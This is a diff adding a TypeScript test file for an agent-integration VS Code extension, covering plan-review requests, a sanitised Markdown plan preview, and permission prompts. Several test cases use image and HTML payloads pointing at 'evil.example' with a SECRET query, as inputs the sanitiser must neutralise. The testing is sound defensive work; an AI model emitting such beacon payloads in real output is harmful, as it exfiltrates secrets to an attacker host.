@@ -1,0 +1,130 @@
+import { strict as assert } from "node:assert";
+import { beforeEach, describe, it } from "node:test";
+import type { PermissionOption, RequestPermissionRequest } from "@agentclientprotocol/sdk";
+import * as vscode from "vscode";
+import { PermissionBroker } from "../../src/permission/broker";
+import { SHOW_PLAN } from "../../src/permission/mapping";
+import { PlanDocuments, PLAN_SCHEME } from "../../src/plan/planDocuments";
+import { previewSafe, reviewedPlan } from "../../src/plan/planReview";
+import type { ToolCallState } from "../../src/session/toolCalls";
+import { stub } from "../stubs/control";
+
+beforeEach(() => stub.reset());
+
+/** The options exit_plan_mode asks with. */
+const PLAN_OPTIONS: PermissionOption[] = [
+  { optionId: "implement", name: "Implement the plan", kind: "allow_once" },
+  { optionId: "keep-planning", name: "Keep planning", kind: "reject_once" },
+];
+
+const PLAN = "# Plan\n\n1. Add the v2 client\n2. Test it\n";
+
+function review(over: Partial<RequestPermissionRequest["toolCall"]> = {}): RequestPermissionRequest {
+  return { sessionId: "s1", toolCall: { toolCallId: "p1", title: "Ready to implement the plan", kind: "switch_mode", rawInput: { plan: PLAN }, ...over }, options: PLAN_OPTIONS };
+}
+
+function call(over: Partial<ToolCallState> = {}): ToolCallState {
+  return { toolCallId: "p1", title: "Exit plan mode", kind: "switch_mode", status: "pending", rawInput: undefined, locations: [], diffs: [], ...over };
+}
+
+describe("recognising a plan review", () => {
+  const cases: { name: string; req: RequestPermissionRequest; call?: ToolCallState; want: string | undefined }[] = [
+    { name: "the plan argument of a switch_mode call", req: review(), want: PLAN },
+    { name: "the kind and plan as the session knows the call", req: review({ kind: undefined, rawInput: undefined }), call: call({ rawInput: { plan: "known" } }), want: "known" },
+    { name: "the call's text content when it has no plan argument", req: review({ rawInput: {}, content: [{ type: "content", content: { type: "text", text: "from content" } }] }), want: "from content" },
+    { name: "not a plan review: another kind", req: review({ kind: "execute" }), want: undefined },
+    { name: "not a plan review: no kind anywhere", req: review({ kind: undefined }), want: undefined },
+    { name: "a plan review with no text", req: review({ rawInput: { plan: "  " } }), want: undefined },
+    { name: "a plan argument that is no string", req: review({ rawInput: { plan: 3 } }), want: undefined },
+  ];
+  for (const c of cases) it(c.name, () => assert.equal(reviewedPlan(c.req, c.call), c.want));
+});
+
+describe("the plan as the preview renders it", () => {
+  const cases: { name: string; plan: string; want: string }[] = [
+    { name: "an image becomes a link (the preview would load it)", plan: "See ![status](https://evil.example/p?k=SECRET)", want: "See [status](https://evil.example/p?k=SECRET)" },
+    { name: "a reference image too", plan: "![x][r]\n\n[r]: https://evil.example/p?k=SECRET", want: "[x][r]\n\n[r]: https://evil.example/p?k=SECRET" },
+    { name: "an HTML image is text", plan: '<img src="https://evil.example/p?k=SECRET">', want: '&lt;img src="https://evil.example/p?k=SECRET">' },
+    { name: "other loading elements, any case, with spaces", plan: "<IFRAME src=x></iframe><video src=y>< picture>", want: "&lt;IFRAME src=x>&lt;/iframe>&lt;video src=y>&lt; picture>" },
+    { name: "the rest is kept", plan: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!", want: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!" },
+  ];
+  for (const c of cases) it(c.name, () => assert.equal(previewSafe(c.plan), c.want));
+});
+
+describe("the plan document", () => {
+  it("serves the plan read-only under its own scheme and opens it in the Markdown preview", async () => {
+    const plans = new PlanDocuments();
+    vscode.workspace.registerTextDocumentContentProvider(PLAN_SCHEME, plans);
+    await plans.show(PLAN);
+    const [preview] = stub.executed;
+    assert.equal(preview?.command, "markdown.showPreview");
+    const uri = preview.args[0] as vscode.Uri;
+    assert.equal(uri.scheme, PLAN_SCHEME);
+    assert.match(uri.path, /\.md$/, "a .md path: the editor reads it as Markdown");
+    assert.equal((await vscode.workspace.openTextDocument(uri)).getText(), PLAN);
+    await plans.show("second");
+    assert.equal((await vscode.workspace.openTextDocument(stub.executed[1]?.args[0] as vscode.Uri)).getText(), "second", "each plan its own document");
+    await plans.show("![x](https://evil.example/?k=SECRET)");
+    assert.equal((await vscode.workspace.openTextDocument(stub.executed[2]?.args[0] as vscode.Uri)).getText(), "[x](https://evil.example/?k=SECRET)", "no image loads from the preview");
+  });
+
+  it("opens the source when the Markdown preview is not there", async () => {
+    const plans = new PlanDocuments();
+    vscode.workspace.registerTextDocumentContentProvider(PLAN_SCHEME, plans);
+    vscode.commands.registerCommand("markdown.showPreview", () => {
+      throw new Error("command 'markdown.showPreview' not found");
+    });
+    await plans.show(PLAN);
+    assert.equal(stub.shownDocuments.length, 1);
+    assert.deepEqual(stub.shownDocuments[0]?.options, { preview: true, preserveFocus: true });
+  });
+});
+
+describe("asking for a plan review", () => {
+  let shown: string[];
+  let inline: string[];
+  let broker: PermissionBroker;
+  beforeEach(() => {
+    shown = [];
+    inline = [];
+    broker = new PermissionBroker({
+      inline: { show: (id) => inline.push(id), resolved: () => undefined },
+      call: () => undefined,
+      showDiff: () => assert.fail("a plan has no diff"),
+      showPlan: async (markdown) => {
+        shown.push(markdown);
+      },
+    });
+  });
+
+  it("opens the plan and asks beside it, never a modal over it, with both choices and Show plan", async () => {
+    const answers = [SHOW_PLAN, "Implement the plan"];
+    stub.warningAnswer = () => answers.shift();
+    assert.deepEqual(await broker.ask(review()), { outcome: { outcome: "selected", optionId: "implement" } });
+    assert.deepEqual(shown, [PLAN, PLAN], "Show plan opens it again");
+    assert.deepEqual(stub.warnings[0]?.items, ["Implement the plan", "Keep planning", SHOW_PLAN]);
+    assert.match(stub.warnings[0].message, /plan/);
+    for (const w of stub.warnings) assert.notEqual((w.options as { modal?: boolean }).modal, true);
+  });
+
+  it("answers keep planning", async () => {
+    stub.warningAnswer = () => "Keep planning";
+    assert.deepEqual(await broker.ask(review()), { outcome: { outcome: "selected", optionId: "keep-planning" } });
+  });
+
+  it("leaves the question on the card when the notification is closed", async () => {
+    stub.warningAnswer = () => undefined;
+    const asked = broker.ask(review());
+    await new Promise((r) => setImmediate(r));
+    assert.equal(broker.openCount, 1);
+    broker.answerInline(inline[0] ?? "", "implement");
+    assert.deepEqual(await asked, { outcome: { outcome: "selected", optionId: "implement" } });
+  });
+
+  it("asks any other switch of mode without a plan as a modal", async () => {
+    stub.warningAnswer = () => "Keep planning";
+    await broker.ask(review({ rawInput: {} }));
+    assert.equal(shown.length, 0);
+    assert.equal((stub.warnings[0]?.options as { modal?: boolean }).modal, true);
+  });
+});
